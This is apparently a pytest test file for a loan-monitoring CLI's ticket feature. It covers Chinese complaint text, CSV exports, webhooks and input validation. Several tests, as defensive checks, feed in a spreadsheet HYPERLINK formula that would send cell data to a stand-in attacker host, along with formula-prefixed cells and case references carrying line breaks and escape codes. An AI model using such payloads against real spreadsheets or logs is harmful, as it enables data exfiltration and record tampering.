"""`loanwatch ticket` as Alice works a case with a platform, on SQLite and PostgreSQL."""

import csv
import io
import json
import shlex
from datetime import UTC, datetime

from sqlalchemy import func, select

from bot.db import make_engine
from bot.models import OutboxMessage
from bot.sessions import session_factory
from bot.tickets.text.usage import csv_bytes
from tests.support.webhook_receiver import WebhookReceiver
from tests.tickets.conftest import ok


def _outbox_count(database_url: str) -> int:
    engine = make_engine(database_url)
    with session_factory(engine)() as session:
        count = session.scalar(select(func.count()).select_from(OutboxMessage))
    engine.dispose()
    return int(count or 0)


def _tickets(loanwatch) -> list[dict]:
    return json.loads(ok(loanwatch("export tickets --format json")))


def test_a_manual_ticket_prints_the_chinese_text_and_the_records_to_paste(
    loanwatch, missing_bill
) -> None:
    """Jiebei has only in-app service: `ticket open` prints T-1, the zh text and the CSV."""
    out = ok(
        loanwatch(f'ticket open jiebei-main --subject "十二月账单缺失" --alert {missing_bill}')
    )
    assert out.split()[0] == "T-1"
    assert "loanwatch ticket sent T-1" in out
    assert (
        "贵平台账单缺失：我司于2026年11月8日借款¥20,000.00（借款编号#1），按合同应于"
        "2026年12月8日出账，应还金额¥1,666.66。该账单自2026年11月29日起即应可见" in out
    )
    assert "记录类型,日期,编号,金额,本金,利息,状态,说明" in out
    assert "借款,2026-11-08,#1,20000.00" in out
    assert "应还计划,2026-12-08,#1-1,1666.66" in out
    [ticket] = _tickets(loanwatch)
    assert ticket["id"] == "T-1"
    assert (ticket["state"], ticket["via"], ticket["alerts"]) == ("open", "manual", [missing_bill])
    assert ticket["owner"] == "cli:alice"
    assert ticket["next_follow_up_at"] is None  # the clock starts when it is sent


def test_the_records_file_is_utf8_with_a_bom_for_excel(loanwatch, missing_bill, tmp_path) -> None:
    """`--csv FILE` saves the usage records with a BOM, so Excel shows the Chinese."""
    path = tmp_path / "records.csv"
    ok(loanwatch(f"ticket open jiebei-main --subject 账单缺失 --alert {missing_bill} --csv {path}"))
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:4] == ["记录类型", "日期", "编号", "金额"]
    assert ["平台账单"] not in [r[:1] for r in rows]  # no bill was seen
    assert any(r[0] == "预警" and r[2] == f"#{missing_bill}" for r in rows)


def test_a_case_goes_from_sent_to_answered_to_closed(loanwatch, missing_bill, clock) -> None:
    """Sent by hand → waiting with a follow-up due; reply with 工单号 → answered; close."""
    ok(loanwatch(f"ticket open jiebei-main --subject 账单缺失 --alert {missing_bill}"))
    out = ok(loanwatch("ticket sent T-1"))
    assert "first follow-up due 2026-12-03 09:00 CST" in out
    ok(loanwatch('ticket note T-1 "called 95188, they will check"'))
    out = ok(loanwatch('ticket reply T-1 "已受理，三个工作日内处理" --case GD20261201001'))
    assert "case GD20261201001" in out
    [ticket] = _tickets(loanwatch)
    assert (ticket["state"], ticket["case_ref"], ticket["next_follow_up_at"]) == (
        "answered",
        "GD20261201001",
        None,
    )
    out = ok(loanwatch('ticket close T-1 --resolution "bill issued"'))
    assert f"its alerts {missing_bill} are still open" in out
    show = ok(loanwatch("ticket show T-1"))
    for kind in ("opened", "sent", "note", "replied", "closed"):
        assert f" {kind} " in show
    assert "Resolution: bill issued" in show
    assert ok(loanwatch("ticket list")).strip() == "no open tickets"
    assert "T-1" in ok(loanwatch("ticket list --state closed"))


def test_numbers_are_never_reused_and_an_alert_joins_one_open_ticket(
    loanwatch, missing_bill
) -> None:
    """T-1 holds the alert; T-2 may not take it until T-1 closes; then T-3 may."""
    ok(loanwatch(f"ticket open jiebei-main --subject first --alert {missing_bill}"))
    status, _, err = loanwatch(f"ticket open jiebei-main --subject second --alert {missing_bill}")
    assert status == 2
    assert f"alert {missing_bill} is already in the open ticket T-1" in err
    ok(loanwatch("ticket close T-1 --resolution duplicate"))
    out = ok(loanwatch(f"ticket open jiebei-main --subject third --alert {missing_bill}"))
    assert out.startswith("T-2 ")
    assert [t["id"] for t in _tickets(loanwatch)] == ["T-1", "T-2"]


def test_bad_input_exits_2_with_one_line_and_writes_nothing(
    loanwatch, missing_bill, database_url
) -> None:
    """Unknown facility or alert, empty or long subject, closing twice: one line, no rows."""
    ok(loanwatch("ticket open jiebei-main --subject kept"))
    ok(loanwatch("ticket close T-1 --resolution done"))
    audit_before = ok(loanwatch("export audit --format json"))
    outbox_before = _outbox_count(database_url)
    cases = {
        "ticket open nowhere --subject x": "no facility named 'nowhere'",
        "ticket open jiebei-main --subject x --alert 999": "no alert with id 999",
        'ticket open jiebei-main --subject "  "': "the subject is empty",
        f"ticket open jiebei-main --subject {'x' * 201}": "keep it to 200",
        "ticket close T-1 --resolution again": "T-1 was closed already on 2026-12-01",
        "ticket reply T-1 ok": "to record a reply, reopen it first (`ticket reopen T-1 REASON`)",
        "ticket sent T-1": "T-1 was closed on 2026-12-01; to mark it as sent, reopen it first",
        "ticket show T-9": "no ticket T-9",
        "ticket note X-1 hello": "is not a ticket id",
        "platform contact weilidai --via email": "an email contact needs --to",
        "platform contact jiebei --via email": "an email contact needs --to",
        "platform contact jiebei --via webhook --url https://h.example/x": "needs --secret-env",
        "platform contact jiebei --via email --to not-an-address": "is not an email address",
        'platform contact jiebei --via email --to " , "': "an email contact needs --to",
        "platform contact jiebei --via webhook --secret-env HOOK": "a webhook contact needs --url",
        'ticket close T-1 --resolution ""': "the resolution is empty",
    }
    for command, message in cases.items():
        status, _, err = loanwatch(command)
        assert status == 2, command
        assert message in err, (command, err)
        assert len(err.strip().splitlines()) == 1, command
    assert [t["id"] for t in _tickets(loanwatch)] == ["T-1"]
    assert ok(loanwatch("export audit --format json")) == audit_before
    assert _outbox_count(database_url) == outbox_before


def test_without_a_mail_server_the_first_message_waits_in_the_outbox_and_says_why(
    loanwatch, missing_bill, monkeypatch
) -> None:
    """Jiebei by email, no LOANWATCH_SMTP_HOST: the mail is not printed and counted delivered;
    it waits in the outbox, and `ticket open` says so and names the setting."""
    monkeypatch.delenv("LOANWATCH_SMTP_HOST", raising=False)
    ok(loanwatch("platform contact jiebei --via email --to cs@jiebei.example,ops@jiebei.example"))
    out = ok(loanwatch(f"ticket open jiebei-main --subject 账单缺失 --alert {missing_bill}"))
    assert out.startswith(
        "T-1 opened; sending it by email to cs@jiebei.example, ops@jiebei.example"
    )
    assert "ticket.platform → #email:jiebei" not in out
    assert "贵平台账单缺失" not in out
    assert "T-1: queued, not delivered yet" in out
    assert "set LOANWATCH_SMTP_HOST (and LOANWATCH_MAIL_FROM); it waits in the outbox" in out
    [ticket] = _tickets(loanwatch)
    assert ticket["state"] == "waiting"
    assert ticket["next_follow_up_at"] == "2026-12-03T01:00:00+00:00"  # 09:00 in Shanghai
    [waiting] = [line for line in ok(loanwatch("outbox list")).splitlines() if "email:" in line]
    assert "ticket.platform" in waiting
    assert "pending" in waiting


def test_a_facility_override_wins_over_its_platform(loanwatch, missing_bill, monkeypatch) -> None:
    """The platform says email in Chinese; jiebei-main's override says webhook in English, and
    the webhook (on loopback) receives the English summary before `ticket open` exits."""
    monkeypatch.setenv("JIEBEI_HOOK_SECRET", "hook-secret")
    ok(loanwatch("platform contact jiebei --via email --to cs@jiebei.example"))
    with WebhookReceiver("hook-secret") as hook:
        ok(
            loanwatch(
                "platform contact jiebei --facility jiebei-main --via webhook "
                f"--url {hook.url} --secret-env JIEBEI_HOOK_SECRET --language en"
            )
        )
        out = ok(loanwatch(f"ticket open jiebei-main --subject 'no bill' --alert {missing_bill}"))
    assert f"sending it by webhook to {hook.url}" in out
    assert f"T-1: delivered by webhook to {hook.url}" in out
    [(_, body)] = hook.deliveries
    assert "Missing bill: we drew ¥20,000.00 on 2026-11-08 (draw #1)" in body["summary"]


def test_resolving_a_linked_alert_adds_an_entry_to_its_ticket(loanwatch, missing_bill) -> None:
    """Alice resolves the alert by hand: the ticket's timeline says so and suggests closing."""
    ok(loanwatch(f"ticket open jiebei-main --subject 账单缺失 --alert {missing_bill}"))
    ok(loanwatch(f'alert resolve {missing_bill} --reason "bill appeared"'))
    show = ok(loanwatch("ticket show T-1"))
    assert f"alert {missing_bill} resolved: bill appeared; close T-1 if the platform" in show
    assert "still open" not in ok(loanwatch("ticket close T-1 --resolution fixed"))


def test_export_tickets_as_csv_has_the_documented_columns(loanwatch, missing_bill) -> None:
    """`export tickets --format csv`: one row per ticket with every documented field."""
    ok(loanwatch(f"ticket open jiebei-main --subject 账单缺失 --alert {missing_bill}"))
    rows = list(csv.DictReader(io.StringIO(ok(loanwatch("export tickets --format csv")))))
    assert list(rows[0]) == [
        "id",
        "facility",
        "platform",
        "subject",
        "state",
        "via",
        "owner",
        "opened_at",
        "case_ref",
        "alerts",
        "last_contact_at",
        "next_follow_up_at",
        "follow_ups",
        "closed_at",
        "resolution",
    ]
    assert (rows[0]["id"], rows[0]["alerts"]) == ("T-1", f"[{missing_bill}]")
    [ticket] = _tickets(loanwatch)
    assert list(ticket) == list(rows[0])  # the JSON has the same fields, in the same order
    assert ticket["alerts"] == [missing_bill]
    assert (ticket["follow_ups"], ticket["closed_at"], ticket["resolution"]) == (0, None, None)


def test_a_webhook_url_with_a_password_is_refused_and_no_secret_is_ever_echoed(
    loanwatch, missing_bill, monkeypatch
) -> None:
    """user:password@ in --url: one line, exit 2, nothing written, the password not repeated.
    A token in the query is accepted (some platforms sign that way) but never printed."""
    audit_before = ok(loanwatch("export audit --format json"))
    status, out, err = loanwatch(
        "platform contact jiebei --via webhook --secret-env HOOK_SECRET "
        "--url 'http://bob:hunter2@127.0.0.1:9/hook?token=SEKRIT'"
    )
    assert status == 2
    assert "must not carry a user name or password" in err
    assert len(err.strip().splitlines()) == 1
    assert "hunter2" not in out + err
    assert "SEKRIT" not in out + err
    assert ok(loanwatch("export audit --format json")) == audit_before

    monkeypatch.setenv("HOOK_SECRET", "hook-secret")
    with WebhookReceiver("hook-secret") as hook:
        ok(loanwatch(
            "platform contact jiebei --via webhook --secret-env HOOK_SECRET "
            f"--url '{hook.url}?token=SEKRIT'"
        ))  # fmt: skip
        out = ok(loanwatch(f"ticket open jiebei-main --subject 'no bill' --alert {missing_bill}"))
        assert len(hook.deliveries) == 1
    assert f"T-1: delivered by webhook to {hook.url}?…" in out
    assert "SEKRIT" not in out + ok(loanwatch("ticket show T-1")) + ok(loanwatch("outbox list"))


def test_sent_is_for_a_manual_ticket_not_yet_sent(loanwatch, missing_bill, clock) -> None:
    """`ticket sent` once, on a manual ticket: a second one, or one on an email ticket, is
    refused and leaves the follow-up count and clock alone (it would clear OVERDUE)."""
    ok(loanwatch(f"ticket open jiebei-main --subject 账单缺失 --alert {missing_bill}"))
    ok(loanwatch("ticket sent T-1"))
    clock.now = datetime(2026, 12, 10, 2, 0, tzinfo=UTC)
    status, _, err = loanwatch("ticket sent T-1")
    assert (status, err.strip()) == (
        2,
        "loanwatch: error: T-1 was marked as sent already (waiting since 2026-12-01); "
        "nothing changed",
    )
    ok(loanwatch("platform contact jiebei --via email --to cs@jiebei.example"))
    ok(loanwatch("ticket open jiebei-main --subject 额度不符"))
    before = [(t["follow_ups"], t["next_follow_up_at"]) for t in _tickets(loanwatch)]
    status, _, err = loanwatch("ticket sent T-2")
    assert status == 2
    assert "T-2 goes to the platform by email: loanwatch sends it and its follow-ups itself" in err
    assert [(t["follow_ups"], t["next_follow_up_at"]) for t in _tickets(loanwatch)] == before
    for ticket in ("T-1", "T-2"):  # by hand once; by email, when it went
        assert ok(loanwatch(f"ticket show {ticket}")).count(" sent ") == 1


def test_closed_on_is_the_facility_date(loanwatch, clock) -> None:
    """Closed at 07:40 on 7 December in Shanghai (23:40 UTC the day before): "closed on 12-07"."""
    ok(loanwatch("facility add jiebei-main --platform jiebei --limit 200,000"))
    ok(loanwatch("ticket open jiebei-main --subject 账单缺失"))
    clock.now = datetime(2026, 12, 6, 23, 40, tzinfo=UTC)
    ok(loanwatch("ticket close T-1 --resolution done"))
    status, _, err = loanwatch("ticket close T-1 --resolution again")
    assert (status, err.strip()) == (2, "loanwatch: error: T-1 was closed already on 2026-12-07")


def test_export_tickets_csv_defuses_formulas_typed_into_a_ticket(loanwatch, missing_bill) -> None:
    """A subject or case number typed as a formula is text in the CSV (a leading '), as in
    Slack's alert CSV; the JSON keeps it as typed, and plain numbers stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ok(loanwatch(f"ticket open jiebei-main --subject '{formula}'"))
    ok(loanwatch("ticket sent T-1"))
    ok(loanwatch("ticket reply T-1 ok --case '@SUM(A1:A9)'"))
    ok(loanwatch("ticket close T-1 --resolution '-1+1'"))
    [row] = list(csv.DictReader(io.StringIO(ok(loanwatch("export tickets --format csv")))))
    assert (row["subject"], row["case_ref"], row["resolution"]) == (
        "'" + formula,
        "'@SUM(A1:A9)",
        "'-1+1",
    )
    assert row["follow_ups"] == "0"
    [ticket] = _tickets(loanwatch)
    assert ticket["subject"] == formula


def test_the_usage_records_csv_defuses_formulas() -> None:
    """The records file (mailed, uploaded, saved with --csv): the same defusing, signed amounts
    kept as numbers."""
    data = csv_bytes(["说明", "金额"], [["=1+1", "-1662.57"], ["\tcmd", "+5"], ["ok", "1"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1:] == [["'=1+1", "-1662.57"], ["'\tcmd", "+5"], ["ok", "1"]]


def test_a_case_reference_is_one_line_and_a_bad_csv_path_exits_2(
    loanwatch, missing_bill, tmp_path
) -> None:
    """`--case` with a line break (or another control character) and `--csv` to a folder that
    does not exist: one line, exit 2, nothing written (no ticket, no reply)."""
    ok(loanwatch("ticket open jiebei-main --subject 账单缺失"))
    for case in ("GD1\nINJECT", "GD1\rX", "GD\x1b[31m1"):
        status, _, err = loanwatch(f"ticket reply T-1 ok --case {shlex.quote(case)}")
        assert status == 2
        assert err.strip() == (
            "loanwatch: error: the case reference is the platform's case number, one line: no "
            "line breaks or control characters"
        )
    status, _, err = loanwatch(
        f"ticket open jiebei-main --subject x --csv {tmp_path / 'nowhere' / 'x.csv'}"
    )
    assert status == 2
    assert len(err.strip().splitlines()) == 1
    assert "cannot write the usage records to" in err
    assert "nothing was opened" in err
    [ticket] = _tickets(loanwatch)
    assert (ticket["id"], ticket["state"], ticket["case_ref"]) == ("T-1", "open", None)
